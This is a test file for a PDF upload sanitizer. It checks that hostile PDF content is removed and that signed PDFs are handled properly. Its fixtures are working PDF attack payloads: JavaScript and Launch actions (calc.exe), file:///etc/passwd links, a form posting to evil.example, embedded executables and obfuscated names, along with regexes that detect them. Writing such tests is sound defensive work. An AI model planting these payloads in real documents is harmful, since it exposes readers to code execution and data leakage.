import { describe, expect, test } from 'vitest';
import { createSigningIdentity, sealDocument } from '../../seal/index.ts';
import { inspectSealed } from '../../verify/index.ts';
import { type Forged, onePage, type Page } from './hostile-pdfs.ts';
import { refusal, taken } from './testing-intake.ts';
import { insideOf } from './two-readers.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const LAUNCH = '<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>';
const LINK = (action: string, more = '') =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [40 140 160 180] /A ${action} ${more} >>]`;
const EXE: Forged = { dict: '/Type /EmbeddedFile', data: 'MZ-program' };
/** Bytes that a plain search for a signature would find, although nothing is signed. */
const CLAIM = '/Claim << /Type /Sig /ByteRange [0 10 20 30] /Contents <00> >>';

/** Entries that must not remain in the result. */
const TRACES =
  /JavaScript|\/JS\b|app\.alert|Launch|calc\.exe|MZ-program|EmbeddedFile|\/EF\b|file:\/\/|javascript:|\/Next\b|\/Thread|\/Collection|XFA|xdp|RichMedia|\/OpenAction|\/AA\b|SubmitForm|GoToR|GoToE|Rendition|ByteRange|AcroForm|\/CO\b|\/Sig\b|vbscript|ImportData|SetOCGState|NeedAppearances|\/Perms|\/DSS/i;

const ATTACKS: readonly (readonly [string, Page])[] = [
  [
    'bytes that claim a signature keep no script, program or file',
    {
      catalog: `${CLAIM} /OpenAction ${SCRIPT} /AA << /WC ${LAUNCH} >> /Names << /JavaScript << /Names [(a) ${SCRIPT}] >> /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>] >> >>`,
      page: `/AA << /O ${SCRIPT} >>`,
      more: [EXE],
    },
  ],
  [
    'a chain of actions under a link to a web page',
    {
      page: LINK(
        `<< /S /URI /URI (https://example.com/) /Next [${LAUNCH} << /S /URI /URI (https://a.b/) /Next ${SCRIPT} >>] >>`,
      ),
    },
  ],
  ['an address that is a script', { page: LINK('<< /S /URI /URI (javascript:app.alert\\(1\\)) >>') }],
  [
    'an address that is a script, with a tab in its scheme',
    { page: LINK('<< /S /URI /URI (java\\tscript:app.alert\\(1\\)) >>') },
  ],
  ['an address of a file', { page: LINK('<< /S /URI /URI (file:///etc/passwd) >>') }],
  [
    'an address that a base makes a file',
    { catalog: '/URI << /Base (file:///etc/) >>', page: LINK('<< /S /URI /URI (passwd) >>') },
  ],
  [
    'an action that follows a pointer',
    { page: LINK('<< /S /URI /URI (https://example.com/) >>', `/AA << /E ${SCRIPT} >> /PA ${LAUNCH}`) },
  ],
  ['a place in another file', { page: LINK('<< /S /GoToR /F (calc.exe) /D [0 /Fit] >>') }],
  [
    'a form that is sent elsewhere',
    {
      catalog: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] /NeedAppearances true >>',
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 50 20] /A << /S /SubmitForm /F (https://evil.example/) >> /AA << /C ${SCRIPT} >> >>`,
      ],
    },
  ],
  [
    'threads of articles',
    {
      catalog: '/Threads [<< /Type /Thread /F << /T 6 0 R >> >>]',
      page: LINK('<< /S /Thread /D 0 /F (calc.exe) >>'),
      more: ['<< /Type /Bead >>'],
    },
  ],
  [
    'a form of XFA',
    {
      catalog: '/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>',
      more: [{ dict: '', data: '<xdp:xdp>app.alert(1)</xdp:xdp>' }],
    },
  ],
  [
    'rich media',
    {
      page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 50 50] /RichMediaContent << /Assets << /Names [(a.swf) << /Type /Filespec /EF << /F 6 0 R >> >>] >> >> >>]',
      more: [EXE],
    },
  ],
  [
    'a file as an annotation',
    {
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 50 50] /FS << /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >> >>]',
      more: [EXE],
    },
  ],
  [
    'a file that belongs to the page',
    { page: '/AF [<< /Type /Filespec /EF << /F 6 0 R >> >>]', more: [EXE] },
  ],
  [
    'a script within a resource that draws',
    {
      resources: `/XObject << /X 6 0 R >> /Properties << /P << /S /JavaScript /JS (app.alert\\(1\\)) >> >>`,
      content: { dict: '', data: '/X Do /Span /P BDC EMC' },
      more: [
        {
          dict: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (calc.exe) /Page 0 >> /OPI << /2.0 << /F (calc.exe) >> >> /PieceInfo << /A << /Private ${SCRIPT} >> >> /AA << /O ${LAUNCH} >>`,
          data: '0 0 9 9 re f',
        },
      ],
    },
  ],
  [
    'entries of bookmarks and of permissions',
    {
      catalog: `/Outlines << /First << /Title (a) /A ${SCRIPT} >> >> /Perms << /DocMDP << /ByteRange [0 1 2 3] >> >> /DSS << >>`,
    },
  ],
  [
    'names written with digits',
    { catalog: `/#4fpen#41ction ${SCRIPT.replace('/JavaScript', '/Java#53cript')}` },
  ],
];

describe('uploader → server, signers', () => {
  test.each(ATTACKS)('[UPL-05] %s', async (_, page) => {
    const hostile = onePage(page);
    const { pdf } = await taken(hostile);
    expect(insideOf(pdf)).not.toMatch(TRACES);
  });

  test('[UPL-05] links to web pages, mail addresses and places in the document stay; no other link does', async () => {
    const links = [
      '<< /S /URI /URI (https://example.com/a?b=c#d) >>',
      '<< /S /URI /URI (MAILTO:office@example.com) >>',
      '<< /S /GoTo /D (there) >>',
      '<< /S /URI /URI (ftp://example.com/) >>',
      '<< /S /Named /N /Print >>',
    ].map((action) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`);
    const catalog = '/Names << /Dests << /Names [(there) << /D [3 0 R /XYZ 0 100 null] >>] >> >>';
    const { pdf } = await taken(onePage({ catalog, page: `/Annots [${links.join(' ')}]` }));
    const inside = insideOf(pdf);
    expect(inside).toContain('(https://example.com/a?b=c#d)');
    expect(inside).toContain('(MAILTO:office@example.com)');
    expect(inside).toMatch(/\/Dest \[\s*\d+ 0 R\s*\/XYZ\s*0\s*100\s*null\s*\]/);
    expect(inside).not.toMatch(/ftp:|\/Print\b|\/Named/);
    expect(inside.match(/\/Subtype \/Link/g)).toHaveLength(3);
  });

  test('[UPL-06] a signed PDF is refused until its owner accepts the loss of the signature; then its pages are taken', async () => {
    const signed = await sealed(onePage({}));
    expect(await refusal(signed, false)).toBe('signed');
    const { pdf, notes } = await taken(signed);
    expect(notes).toContain('signature removed');
    expect(insideOf(pdf)).not.toMatch(TRACES);
    expect(inspectSealed(pdf).signed).toBe(false);
  });

  test('[UPL-06] a PDF that only claims to be signed is taken like any PDF', async () => {
    const [, claiming] = ATTACKS[0] ?? ['', {}];
    expect(await refusal(onePage(claiming), false)).toBe('taken');
    const unlike =
      '/AcroForm << /Fields [<< /FT /Sig /T (s) /V << /Type /Sig /ByteRange [0 10 20 30] /Contents <3000> >> >>] >>';
    expect(await refusal(onePage({ catalog: unlike }), false)).toBe('taken');
  });

  test('[AUD-03] an uploaded PDF with a signature and actions is sealed without its actions', async () => {
    const [, claiming] = ATTACKS[0] ?? ['', {}];
    const { pdf } = await taken(onePage(claiming));
    expect(insideOf(await sealed(pdf))).not.toMatch(ACTS);
  });
});

const ACTS = /JavaScript|app\.alert|Launch|calc\.exe|MZ-program|EmbeddedFile|evil/;

async function sealed(pdf: Uint8Array): Promise<Uint8Array> {
  const signedAt = new Date('2026-01-05T00:00:00Z');
  const signer = await createSigningIdentity({ commonName: 'Dojang', organization: 'Dojang', now: signedAt });
  return (await sealDocument({ pdf, title: 'contract', fields: [] }, signer, { reason: 'test', signedAt }))
    .pdf;
}
